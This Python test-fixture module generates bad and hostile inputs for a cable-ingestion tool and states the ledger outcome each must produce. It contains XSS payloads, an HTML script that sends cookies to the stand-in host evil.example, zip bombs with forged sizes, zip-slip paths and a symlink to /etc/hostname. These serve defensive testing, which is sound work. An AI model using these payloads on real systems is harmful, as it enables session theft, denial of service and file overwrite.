"""Bad and hostile inputs, generated on the fly (never committed), each with the ledger rows it
must produce.

`make_bad_inputs(folder)` writes every input under `folder` and returns the `BadInput`s. Each one
says which ledger rows it yields (a path relative to `folder`, `::member` for archive members),
with the status, a piece of the one-line error, the documents that must reach the clean tables
and the repairs those documents must carry. The documents are synthetic: built from the bundled
samples of `flows.samples` (fictional people, every text says it is a synthetic sample), with a
serial number of their own so no two inputs collide by accident.
"""
from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from flows.samples import CABLE_ROUTED, HTML_BODY, wikileaks_page
from transforms.merge import variant_id


@dataclass(frozen=True)
class Row:
    """One expected ledger row."""
    status: str                          # loaded | failed | quarantined | skipped
    error: str | None = None             # a piece of the one-line error; None: no error at all
    docs: tuple[str, ...] = ()           # doc_ids that must reach the clean tables
    repairs: tuple[str, ...] = ()        # repair kinds the first of `docs` must carry
    partial: bool = False                # the first of `docs` must be marked partial


@dataclass
class BadInput:
    name: str                            # test id
    what: str                            # what is bad about it
    rows: dict[str, Row]                 # ledger path relative to the folder -> expected row
    make: Callable[[Path], None]
    skip_reason: str | None = None       # why the expectation cannot be checked on this machine
    extra_sources: tuple[str, ...] = field(default_factory=tuple)   # also passed to the run as sources


# ------------------------------------------------------------------------------------------------
# synthetic documents
# ------------------------------------------------------------------------------------------------
def cable(serial: int, *, dtg: str = "010930Z JUN 09", extra: str = "") -> str:
    """The routed sample cable with its own serial (doc_id `09TASHKENT<serial>`)."""
    text = (CABLE_ROUTED.replace("TASHKENT 001234", f"TASHKENT {serial:06d}")
            .replace("#1234/01", f"#{serial}/01").replace("010930Z JUN 09", dtg))
    return text.replace("End comment. \n", f"End comment. {extra}\n") if extra else text


def cable_id(serial: int) -> str:
    return f"09TASHKENT{serial}"


def other_text(serial: int) -> str:
    """Another cable filed under the routed sample's id: the same header, another (shorter) body."""
    head, _ = cable(serial).split("\xb61.", 1)
    return head + ("\xb61. (U) Summary: the water ministry published its summer schedule without "
                   "comment. This second text is a synthetic sample. \nHALVORSEN \n")


def other_text_id(serial: int) -> str:
    """The id `other_text` is kept under: its own text's, next to the sample's (`transforms.merge`)."""
    from transforms.documents import open_source, parse_document
    data = other_text(serial).encode("utf-8")
    (src,) = open_source("other.txt", data, "-")
    return variant_id(cable_id(serial), parse_document(src).document.text)


def page(ref_id: str, body: str = HTML_BODY, *, classification: str = "UNCLASSIFIED//FOR OFFICIAL USE ONLY",
         created: str = "2008-04-03 10:20") -> str:
    return wikileaks_page(ref_id, created, classification, "Embassy Astana",
                          "R 031020Z APR 08\nFM AMEMBASSY ASTANA\nTO SECSTATE WASHDC 2468", body)


def astana_body(serial: int) -> str:
    return HTML_BODY.replace("ASTANA 000999", f"ASTANA {serial:06d}")


def csv_row(row_id: int, refid: str, body: str, n_fields: int = 8) -> str:
    fields = [str(row_id), "11/02/2007 08:15", refid, "Consulate Almaty", "UNCLASSIFIED", "",
              "R 020815Z NOV 07\nFM AMCONSUL ALMATY\nTO SECSTATE WASHDC 1234\n", body][:n_fields]
    return ",".join('"' + f.replace("\\", "\\\\").replace('"', '\\"') + '"' for f in fields) + "\n"


def csv_body(serial: int) -> str:
    return (f"UNCLAS ALMATY {serial:06d} \n \nSIPDIS \n \nE.O. 12958: N/A \nTAGS: ECON, KZ \n"
            f"SUBJECT: KAZAKHSTAN: GRAIN EXPORTS (SYNTHETIC SAMPLE {serial}) \n \n"
            "1. (U) Traders in Almaty expect record wheat exports. \n \n"
            "2. (U) This row is a synthetic sample for pouch's tests. \nORDWAY \n")


def pdf_with_text(text: str) -> bytes:
    """A one-page PDF whose text layer holds `text` (matplotlib writes real text objects)."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig = plt.figure(figsize=(8.5, 11))
    fig.text(0.05, 0.97, text, family="monospace", fontsize=6, va="top")
    buf = io.BytesIO()
    fig.savefig(buf, format="pdf")
    plt.close(fig)
    return buf.getvalue()


def pdf_without_text() -> bytes:
    """A scan-like PDF: a drawing, no text objects."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig = plt.figure(figsize=(4, 4))
    ax = fig.add_axes((0, 0, 1, 1))
    ax.axis("off")
    ax.imshow([[0, 1], [1, 0]], cmap="gray")
    buf = io.BytesIO()
    fig.savefig(buf, format="pdf")
    plt.close(fig)
    return buf.getvalue()


def encrypt_pdf(data: bytes, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password, owner_password="owner-secret", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def blank_pdf(pages: int) -> bytes:
    from pypdf import PdfWriter
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=72, height=72)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def zip_of(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2015, 10, 30, 0, 0, 0))
            info.compress_type = compression
            zf.writestr(info, data)
    return buf.getvalue()


def _patch_headers(data: bytes, *, size: int | None = None, flag: int | None = None) -> bytes:
    """Rewrite the declared uncompressed size and/or the flag bits of every member, in the local
    headers and in the central directory (what a hostile archiver would write)."""
    out = bytearray(data)
    for sig, flag_at, size_at in ((b"PK\x03\x04", 6, 22), (b"PK\x01\x02", 8, 24)):
        pos = out.find(sig)
        while pos != -1:
            if flag is not None:
                out[pos + flag_at:pos + flag_at + 2] = struct.pack("<H", struct.unpack_from("<H", out, pos + flag_at)[0] | flag)
            if size is not None:
                out[pos + size_at:pos + size_at + 4] = struct.pack("<I", size)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _write(rel: str, data: bytes | str | Callable[[], bytes], encoding: str = "utf-8") -> Callable[[Path], None]:
    """A maker that writes `data` (or what the callable returns: made only when written)."""
    def make(folder: Path) -> None:
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        content = data() if callable(data) else data
        path.write_bytes(content.encode(encoding) if isinstance(content, str) else content)
    return make


def _all(*makers: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        for m in makers:
            m(folder)
    return make


def _symlink(rel: str, target: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        os.symlink(target, folder / rel)
    return make


# ------------------------------------------------------------------------------------------------
# the inputs
# ------------------------------------------------------------------------------------------------
#: A file name that carries markup: it reaches the ledger, the quarantine and the report.
XSS_NAME = "<img src=x onerror=alert(1)>.txt"
#: A metadata cell that carries a script: it becomes the doc_id the page claims.
XSS_ID = '<script>alert("pouch")</script>'
MB = 1_000_000


def make_bad_inputs(folder: Path) -> list[BadInput]:
    """Write every bad input under `folder`; return what each must produce."""
    inputs = bad_inputs()
    for b in inputs:
        b.make(folder)
    return inputs


def bad_inputs() -> list[BadInput]:
    """Every bad input and what it must produce (cheap: the bytes are made when written)."""
    rng = random.Random(20240611)
    is_root = os.geteuid() == 0
    L, F, Q, S = "loaded", "failed", "quarantined", "skipped"
    lorem = ("lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt "
             "ut labore et dolore magna aliqua ")
    inputs = [
        # --- nothing, or not text -----------------------------------------------------------------
        BadInput("empty", "a file with no bytes", {"empty.txt": Row(F, "empty file")}, _write("empty.txt", b"")),
        BadInput("whitespace", "only white space", {"whitespace.txt": Row(F, "empty file")},
                 _write("whitespace.txt", b" \t\r\n" * 500)),
        BadInput("binary-junk", "random bytes named .txt", {"junk.txt": Row(F, "binary content")},
                 _write("junk.txt", rng.randbytes(8192))),
        BadInput("png-renamed", "a PNG image renamed .txt", {"picture.txt": Row(F, "binary file")},
                 _write("picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(2000))),
        BadInput("gzip-renamed", "a gzip stream renamed .txt", {"archive.txt": Row(F, "binary file")},
                 _write("archive.txt", b"\x1f\x8b\x08\x00" + rng.randbytes(500))),
        BadInput("all-nul", "10,000 NUL bytes", {"nul_only.txt": Row(F, "NUL")}, _write("nul_only.txt", b"\x00" * 10_000)),
        BadInput("not-a-document-type", "a file type pouch does not read", {"notes.md": Row(S, "not a document type")},
                 _write("notes.md", "# notes\n")),
        BadInput("hidden-file", "a dot file", {".hidden.txt": Row(S, "hidden")}, _write(".hidden.txt", cable(5201))),
        # --- damaged but readable text: loads, repairs logged --------------------------------------
        BadInput("truncated-utf8", "UTF-8 cut inside a multi-byte character",
                 {"truncated_utf8.txt": Row(L, None, (cable_id(5101),), ("truncated_utf8_tail",), partial=True)},
                 _write("truncated_utf8.txt", (cable(5101) + "Stra\u00dfe caf\u00e9").encode("utf-8")[:-1])),
        BadInput("utf16-le-bom", "UTF-16 LE with a byte-order mark",
                 {"utf16le.txt": Row(L, None, (cable_id(5102),))}, _write("utf16le.txt", cable(5102), "utf-16")),
        BadInput("utf16-be-bom", "UTF-16 BE with a byte-order mark",
                 {"utf16be.txt": Row(L, None, (cable_id(5103),))},
                 _write("utf16be.txt", b"\xfe\xff" + cable(5103).encode("utf-16-be"))),
        BadInput("utf16-no-bom", "UTF-16 LE without a byte-order mark",
                 {"utf16_nobom.txt": Row(L, None, (cable_id(5104),))},
                 _write("utf16_nobom.txt", cable(5104).encode("utf-16-le"))),
        BadInput("utf8-bom", "UTF-8 with a byte-order mark", {"utf8_bom.txt": Row(L, None, (cable_id(5105),))},
                 _write("utf8_bom.txt", cable(5105), "utf-8-sig")),
        BadInput("latin1-cable", "ISO-8859-1 cable with CRLF line ends (the Cablegate text files)",
                 {"latin1.txt": Row(L, None, (cable_id(5106),), ("newline",))},
                 _write("latin1.txt", cable(5106).replace("\n", "\r\n"), "iso-8859-1")),
        BadInput("cp1252-cable", "Windows-1252 smart quotes",
                 {"cp1252.txt": Row(L, None, (cable_id(5107),))},
                 _write("cp1252.txt", cable(5107, extra="\u201cquoted\u201d \u2013 dash"), "cp1252")),
        BadInput("mixed-encodings", "UTF-8 text with ISO-8859-1 bytes spliced in",
                 {"mixed.txt": Row(L, None, (cable_id(5108),), ("mixed_encoding",))},
                 _write("mixed.txt", cable(5108, extra="caf\u00e9 ").encode("utf-8") + "na\u00efve \u00b6\n".encode("iso-8859-1"))),
        BadInput("nul-bytes", "NUL bytes sprinkled through a cable",
                 {"nul_bytes.txt": Row(L, None, (cable_id(5109),), ("nul_removed",))},
                 _write("nul_bytes.txt", cable(5109).replace("Summary:", "Sum\x00mary:").replace("TAGS", "\x00\x00TAGS"))),
        BadInput("control-chars", "bell and escape characters in the text",
                 {"control.txt": Row(L, None, (cable_id(5110),), ("control_removed",))},
                 _write("control.txt", cable(5110, extra="\x07\x1b[31m"))),
        BadInput("one-line-5mb", "a 5 MB document on one line",
                 {"one_line.txt": Row(L, None, ("one_line",))},
                 _write("one_line.txt", lambda: (lorem * (5 * MB // len(lorem) + 1))[:5 * MB])),
        BadInput("document-50mb", "a 50 MB single document", {"huge.txt": Row(F, "limit for one document")},
                 _write("huge.txt", lambda: (cable(5111) + lorem * (50 * MB // len(lorem)))[:50 * MB])),
        BadInput("no-extension", "a cable with no file extension",
                 {"09TASHKENT5112": Row(L, None, (cable_id(5112),))}, _write("09TASHKENT5112", cable(5112))),
        BadInput("markup-in-file-name", "a file name that is an HTML payload",
                 {XSS_NAME: Row(Q, "doc_id")}, _write(XSS_NAME, "A plain note with no cable or email in it.\n")),
        BadInput("future-date", "a cable whose date-time group is in 2065",
                 {"future.txt": Row(Q, "doc_date_not_future")}, _write("future.txt", cable(5113, dtg="010930Z JUN 65"))),
        # --- HTML ----------------------------------------------------------------------------------
        BadInput("html-script-in-cable", "<script>, event handlers and an iframe inside the cable text",
                 {"script.html": Row(L, None, ("08ASTANA5201",), ("markup_removed",))},
                 _write("script.html", page("08ASTANA5201", astana_body(5201)).replace(
                     "<code><pre>", "<script>document.location='http://evil.example/'+document.cookie</script>"
                     "<code><pre onmouseover=\"alert(1)\">", 1).replace(
                     "displaced 3,200", "displaced <script>alert('x')</script><img src=x onerror=alert(2)> 3,200"))),
        BadInput("html-script-as-id", "the metadata table's Reference ID is a script",
                 {"script_id.html": Row(Q, "doc_id")},
                 _write("script_id.html", page("08ASTANA5202", astana_body(5202)).replace(
                     ">08ASTANA5202</a>", ">" + XSS_ID.replace("<", "&lt;").replace(">", "&gt;") + "</a>"))),
        BadInput("html-no-metadata", "a cable page without its metadata table",
                 {"no_meta.html": Row(L, None, ("08ASTANA5203",))},
                 _write("no_meta.html", _drop_table(page("08ASTANA5203", astana_body(5203))))),
        BadInput("html-no-cable", "an HTML page that is not a cable page",
                 {"blog.html": Row(F, "not a WikiLeaks cable page")},
                 _write("blog.html", "<!doctype html><html><body><h1>Hi</h1><script>alert(1)</script></body></html>")),
        BadInput("html-no-text", "a cable page with a metadata table and no <pre> text",
                 {"no_pre.html": Row(F, "no <pre> cable text")},
                 _write("no_pre.html", page("08ASTANA5204").split("<code><pre>")[0] + "</div></body></html>")),
        # --- cables.csv --------------------------------------------------------------------------
        BadInput("csv-wrong-field-count", "a cables.csv row with 7 fields between good rows",
                 {"wrong_fields.csv": Row(L, "expected 8 fields, found 7", ("07ALMATY5301", "07ALMATY5303"))},
                 _write("wrong_fields.csv", csv_row(1, "07ALMATY5301", csv_body(5301))
                        + csv_row(2, "07ALMATY5302", csv_body(5302), n_fields=7)
                        + csv_row(3, "07ALMATY5303", csv_body(5303)))),
        BadInput("csv-broken-escape", "a cables.csv row whose closing quote is escaped away",
                 {"broken_escape.csv": Row(L, "rows refused", ("07ALMATY5311",))},
                 _write("broken_escape.csv", csv_row(1, "07ALMATY5311", csv_body(5311))
                        + csv_row(2, "07ALMATY5312", csv_body(5312)).replace('ORDWAY \n"\n', 'ORDWAY \\"\n')
                        + csv_row(3, "07ALMATY5313", csv_body(5313)))),
        BadInput("csv-not-cables", "a CSV with a header row that is not a cables.csv dump",
                 {"people.csv": Row(F, "not a cables.csv dump")}, _write("people.csv", "name,age\nalice,30\n")),
        # --- PDF -----------------------------------------------------------------------------------
        BadInput("pdf-good", "a cable PDF with a text layer", {"cable.pdf": Row(L, None, (cable_id(5301),))},
                 _write("cable.pdf", lambda: pdf_with_text(cable(5301)))),
        BadInput("pdf-no-text-layer", "a PDF with no text layer (a scan)",
                 {"scan.pdf": Row(F, "no text layer")}, _write("scan.pdf", pdf_without_text)),
        BadInput("pdf-encrypted", "a PDF that needs a password", {"locked.pdf": Row(F, "encrypted PDF")},
                 _write("locked.pdf", lambda: encrypt_pdf(pdf_with_text(cable(5302)), "secret"))),
        BadInput("pdf-encrypted-blank-password", "an encrypted PDF with an empty user password (opens)",
                 {"owner_locked.pdf": Row(L, None, (cable_id(5303),))},
                 _write("owner_locked.pdf", lambda: encrypt_pdf(pdf_with_text(cable(5303)), ""))),
        BadInput("pdf-corrupt", "PDF magic bytes then junk", {"corrupt.pdf": Row(F, "PDF")},
                 _write("corrupt.pdf", b"%PDF-1.7\n" + rng.randbytes(3000))),
        BadInput("pdf-truncated", "a PDF cut in half", {"truncated.pdf": Row(F, "PDF")},
                 _write("truncated.pdf", lambda: pdf_with_text(cable(5304))[:4000])),
        BadInput("pdf-too-many-pages", "a 600-page PDF", {"pages.pdf": Row(F, "pages")},
                 _write("pages.pdf", lambda: blank_pdf(600))),
        # --- archives ------------------------------------------------------------------------------
        BadInput("zip-corrupt", "zip magic bytes then junk", {"corrupt.zip": Row(F, "corrupt zip")},
                 _write("corrupt.zip", b"PK\x03\x04" + rng.randbytes(2000))),
        BadInput("zip-truncated", "a zip cut before its central directory", {"truncated.zip": Row(F, "corrupt zip")},
                 _write("truncated.zip", zip_of([("a.txt", cable(5401).encode())])[:200])),
        BadInput("zip-empty", "an archive with no members", {"empty.zip": Row(S, "no files")},
                 _write("empty.zip", zip_of([]))),
        BadInput("zip-bomb-ratio", "a member of 30 MB of zeros (ratio ~1000:1)",
                 {"bomb_ratio.zip": Row(L), "bomb_ratio.zip::zeros.txt": Row(F, "compression ratio")},
                 _write("bomb_ratio.zip", lambda: zip_of([("zeros.txt", b"\x00" * (30 * MB))]))),
        BadInput("zip-bomb-declared-size", "members that declare 3 GiB each",
                 {"bomb_size.zip": Row(F, "zip bomb refused")},
                 _write("bomb_size.zip", _patch_headers(zip_of([("a.txt", b"x" * 1000), ("b.txt", b"y" * 1000)]),
                                                        size=3 * 2**30))),
        BadInput("zip-bomb-lying-size", "a member that declares 100 bytes and inflates to 2 MB",
                 {"bomb_liar.zip": Row(L), "bomb_liar.zip::liar.txt": Row(F, "zip member")},
                 _write("bomb_liar.zip", lambda: _patch_headers(zip_of([("liar.txt", b"a" * (2 * MB))]), size=100))),
        BadInput("zip-slip", "members named ../, absolute and a/../../ next to a good one",
                 {"slip.zip": Row(L), "slip.zip::../escape.txt": Row(F, "unsafe member name"),
                  "slip.zip::/tmp/pouch_abs_escape.txt": Row(F, "unsafe member name"),
                  "slip.zip::docs/../../up.txt": Row(F, "unsafe member name"),
                  "slip.zip::docs/09TASHKENT5402.txt": Row(L, None, (cable_id(5402),)),
                  "slip.zip::docs/setup.exe": Row(S, "not a document type")},
                 _write("slip.zip", zip_of([("../escape.txt", cable(5403).encode()),
                                            ("/tmp/pouch_abs_escape.txt", cable(5404).encode()),
                                            ("docs/../../up.txt", cable(5405).encode()),
                                            ("docs/09TASHKENT5402.txt", cable(5402).encode()),
                                            ("docs/setup.exe", b"MZ" + rng.randbytes(100))]))),
        BadInput("zip-nested", "an archive inside an archive",
                 {"nested.zip": Row(L), "nested.zip::inner.zip": Row(F, "nested archive")},
                 _write("nested.zip", zip_of([("inner.zip", zip_of([("x.txt", cable(5406).encode())]))]))),
        BadInput("zip-encrypted-member", "a member flagged as encrypted",
                 {"encrypted.zip": Row(L), "encrypted.zip::secret.txt": Row(F, "encrypted zip member")},
                 _write("encrypted.zip", _patch_headers(zip_of([("secret.txt", cable(5407).encode())],
                                                               zipfile.ZIP_STORED), flag=0x1))),
        BadInput("zip-duplicate-member-names", "two members with the same name",
                 {"dupe_members.zip": Row(L), "dupe_members.zip::a.txt": Row(L, None, (cable_id(5408),)),
                  "dupe_members.zip::a.txt (copy 2)": Row(F, "duplicate member name")},
                 _write("dupe_members.zip", _dupe_member_zip(cable(5408).encode(), cable(5409).encode()))),
        # --- duplicates ----------------------------------------------------------------------------
        BadInput("duplicate-doc-id", "two files with the same doc_id and different texts: both kept",
                 {"dup/a_first.txt": Row(L, None, (cable_id(5501),)),
                  "dup/b_second.txt": Row(L, "kept apart as", (other_text_id(5501),))},
                 _all(_write("dup/a_first.txt", cable(5501)), _write("dup/b_second.txt", other_text(5501)))),
        BadInput("duplicate-doc-id-same-text", "two copies of one document, one with a line more: merged",
                 {"dup/c_copy.txt": Row(L, None, (cable_id(5505),)), "dup/d_copy.txt": Row(L, None, (cable_id(5505),))},
                 _all(_write("dup/c_copy.txt", cable(5505)),
                      _write("dup/d_copy.txt", cable(5505, extra="A different last line.")))),
        BadInput("same-file-twice", "a byte-identical copy under another name: two sources of one document",
                 {"same/copy_a.txt": Row(L, None, (cable_id(5502),)), "same/copy_b.txt": Row(L, None, (cable_id(5502),))},
                 _all(_write("same/copy_a.txt", cable(5502)), _write("same/copy_b.txt", cable(5502)))),
        BadInput("same-path-twice", "the same file given twice (as a source and inside a source folder)",
                 {"twice/09TASHKENT5503.txt": Row(L, None, (cable_id(5503),))},
                 _write("twice/09TASHKENT5503.txt", cable(5503)), extra_sources=("twice/09TASHKENT5503.txt",)),
        # --- the file system -----------------------------------------------------------------------
        BadInput("symlink-loop", "two links pointing at each other",
                 {"loop_a.txt": Row(F, "symlink loop"), "loop_b.txt": Row(F, "symlink loop")},
                 _all(_symlink("loop_a.txt", "loop_b.txt"), _symlink("loop_b.txt", "loop_a.txt"))),
        BadInput("symlink-dir-loop", "a directory link to its own parent", {"sub/up": Row(F, "symlinked directory")},
                 _all(lambda f: (f / "sub").mkdir(), _symlink("sub/up", ".."))),
        BadInput("symlink-broken", "a link to nothing", {"broken.txt": Row(F, "broken symlink")},
                 _symlink("broken.txt", "does-not-exist.txt")),
        BadInput("symlink-outside", "a link to a file outside the input folder",
                 {"outside.txt": Row(F, "outside the input")}, _symlink("outside.txt", "/etc/hostname")),
        BadInput("fifo", "a named pipe (reading it would block)", {"pipe.txt": Row(F, "not a regular file")},
                 lambda f: os.mkfifo(f / "pipe.txt")),
        BadInput("unreadable", "a file with mode 000",
                 {"unreadable.txt": Row(L, None, (cable_id(5601),)) if is_root else Row(F, "permission denied")},
                 _all(_write("unreadable.txt", cable(5601)), lambda f: os.chmod(f / "unreadable.txt", 0))
                 , skip_reason="running as root: mode 000 does not stop root from reading (the read error path "
                               "is covered by test_unreadable_file_is_a_failed_row)" if is_root else None),
        BadInput("file-name-not-utf8", "a file name with a byte that is not UTF-8",
                 {"bad\ufffdname.txt": Row(F, "not valid UTF-8")},
                 lambda f: (f / os.fsdecode(b"bad\xffname.txt")).write_text(cable(5602))),
    ]
    return inputs


def _drop_table(html: str) -> str:
    start, end = html.index("<table class='cable'>"), html.index("</table>") + len("</table>")
    return html[:start] + html[end:]


def _dupe_member_zip(first: bytes, second: bytes) -> bytes:
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as zf:
        warnings.simplefilter("ignore")            # "Duplicate name": exactly what we want
        zf.writestr("a.txt", first)
        zf.writestr("a.txt", second)
    return buf.getvalue()
